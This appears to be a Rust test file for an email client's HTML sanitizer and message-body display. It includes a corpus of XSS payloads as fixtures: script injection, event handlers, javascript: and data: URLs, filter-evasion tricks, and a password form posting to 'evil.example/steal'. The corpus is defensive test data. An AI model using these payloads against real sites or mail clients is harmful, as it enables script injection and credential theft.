use spite_core::graph::FetchedBody;
use spite_core::sanitize::{cached_display_body, fetched_display_body, html_to_text, sanitize_html};

/// Every fixture is (payload, forbidden fragments that must not survive).
#[test]
fn xss_corpus_is_neutralized() {
    let corpus: &[(&str, &[&str])] = &[
        (r#"<p>hi</p><script>alert(1)</script>"#, &["<script", "alert(1)"]),
        (r#"<img src="https://x.com/a.png" onerror="alert(1)">"#, &["onerror", "alert(1)"]),
        (r#"<a href="javascript:alert(1)">click</a>"#, &["javascript:"]),
        (
            r#"<img src="javascript:alert(1)"><iframe src="javascript:alert(1)"></iframe>"#,
            &["javascript:", "<iframe"],
        ),
        (
            r#"<div style="width: expression(alert(1)); background:url(javascript:alert(1))">x</div>"#,
            &["expression(", "style="],
        ),
        (r#"<svg onload="alert(1)"><circle r="1"/></svg>"#, &["<svg", "onload"]),
        (
            r#"<object data="https://x.com/x.swf"></object><embed src="https://x.com/x.swf">"#,
            &["<object", "<embed"],
        ),
        (
            r#"<form action="https://evil.example/steal" method="post"><input name="pw" type="password"><button>ok</button></form>"#,
            &["<form", "<input", "<button", "evil.example/steal"],
        ),
        (r#"<meta http-equiv="refresh" content="0;url=https://evil.example">"#, &["<meta", "http-equiv"]),
        (r#"<base href="https://evil.example/">"#, &["<base"]),
        (
            r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">smuggle</a>"#,
            &["<script"],
        ),
        (r#"<scr<script>ipt>alert(1)</scr</script>ipt>"#, &["<script"]),
        (
            r#"<img src="x" ONERROR="alert(1)"><IMG SRC=JaVaScRiPt:alert(1)>"#,
            &["onerror", "ONERROR", "javascript:", "JaVaScRiPt"],
        ),
    ];

    for (payload, forbidden) in corpus {
        let clean = sanitize_html(payload);
        for fragment in *forbidden {
            assert!(
                !clean.to_lowercase().contains(&fragment.to_lowercase()),
                "sanitizer let {fragment:?} survive in {clean:?} (payload {payload:?})"
            );
        }
    }
}

#[test]
fn benign_formatting_survives() {
    let clean = sanitize_html(
        r#"<h1>Hello</h1><p>Some <strong>bold</strong> and <em>italic</em> text,
           a <a href="https://example.com/x">link</a>, and an
           <img src="https://example.com/pic.png" alt="pic">.</p>
           <ul><li>one</li><li>two</li></ul>
           <blockquote>quoted reply</blockquote>"#,
    );
    for kept in [
        "<h1>",
        "<strong>",
        "<em>",
        r#"href="https://example.com/x""#,
        r#"src="https://example.com/pic.png""#,
        "<ul>",
        "<blockquote>",
    ] {
        assert!(clean.contains(kept), "{kept} missing from {clean}");
    }
    assert!(clean.contains("noopener"));
}

#[test]
fn sanitize_is_idempotent() {
    let once = sanitize_html(r#"<p>hi <b>there</b></p><script>x</script>"#);
    assert_eq!(once, sanitize_html(&once));
}

#[test]
fn html_to_text_strips_tags_and_decodes_entities() {
    assert_eq!(
        html_to_text("<div><p>Hello <b>world</b></p><br>next&nbsp;line</div>"),
        "Hello world next line"
    );
    assert_eq!(html_to_text("a &amp; b &lt;c&gt; &quot;d&quot;"), "a & b <c> \"d\"");
    let text = html_to_text("<table><tr><td>cell</td></tr></table>");
    assert!(!text.contains("table") && !text.contains("td"), "{text}");
    assert_eq!(text, "cell");
    assert_eq!(html_to_text("Fish & Chips"), "Fish & Chips");
    assert_eq!(html_to_text(""), "");
}

fn stored(body: Option<&str>, content_type: Option<&str>) -> spite_core::store::Message {
    spite_core::store::Message {
        summary: spite_core::store::MessageSummary {
            id: "m1".into(),
            folder_id: "inbox".into(),
            subject: "s".into(),
            from_name: "A".into(),
            from_address: "a@x.com".into(),
            received_at: 1,
            preview: "".into(),
            is_read: false,
            has_attachments: false,
            flag_status: "notFlagged".into(),
            inference_classification: "focused".into(),
            is_draft: false,
        },
        conversation_id: None,
        body_html: body.map(String::from),
        body_content_type: content_type.map(String::from),
        internet_message_id: None,
        categories: vec![],
    }
}

#[test]
fn cached_bodies_default_to_html() {
    assert!(cached_display_body(&stored(None, None)).is_none());
    let d = cached_display_body(&stored(Some("<p>x</p>"), None)).unwrap();
    assert_eq!((d.body.as_str(), d.content_type.as_str()), ("<p>x</p>", "html"));
    let d = cached_display_body(&stored(Some("plain"), Some("text"))).unwrap();
    assert_eq!((d.body.as_str(), d.content_type.as_str()), ("plain", "text"));
}

#[test]
fn fetched_html_is_sanitized_and_text_stays_text() {
    let d = fetched_display_body(&FetchedBody {
        content: "<p onclick=\"x()\">hi</p><script>bad()</script>".into(),
        content_type: "html".into(),
    });
    assert_eq!(d.content_type, "html");
    assert!(d.body.contains("hi"));
    assert!(!d.body.contains("script") && !d.body.contains("onclick"));
    let d = fetched_display_body(&FetchedBody { content: "<b>not html</b>".into(), content_type: "text".into() });
    assert_eq!((d.body.as_str(), d.content_type.as_str()), ("<b>not html</b>", "text"));
}

#[test]
fn plain_text_survives_tags_and_whitespace() {
    assert_eq!(html_to_text("  two   words \n"), "two words");
    assert_eq!(html_to_text("<div>two   words</div>"), "two words");
    assert_eq!(html_to_text("<span class=\"x\">a b</span>"), "a b");
}
